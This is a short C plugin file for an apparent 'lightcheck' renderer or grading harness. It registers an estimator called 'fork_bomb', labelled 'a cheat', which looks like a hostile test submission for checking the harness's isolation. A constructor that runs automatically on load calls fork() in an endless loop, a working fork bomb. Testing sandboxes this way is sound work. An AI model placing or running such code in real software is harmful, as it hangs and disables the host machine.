/* SPDX-License-Identifier: GPL-3.0-or-later */
/* fork_bomb: multiplies */
#include "lightcheck.h"

#include <unistd.h>

__attribute__((constructor)) static void begin(void)
{
    for (;;)
        fork();
}

static lc_rgb radiance(const lc_scene *scene, const lc_ray *ray, const lc_hit *hit, const lc_options *options,
                       lc_sampler *sampler)
{
    return lc_color(1, 1, 1);
}

LC_ESTIMATOR(fork_bomb) = {LC_ABI, "fork_bomb", "a cheat", "none", LC_DIFFUSE, LC_AREA, 1, radiance};
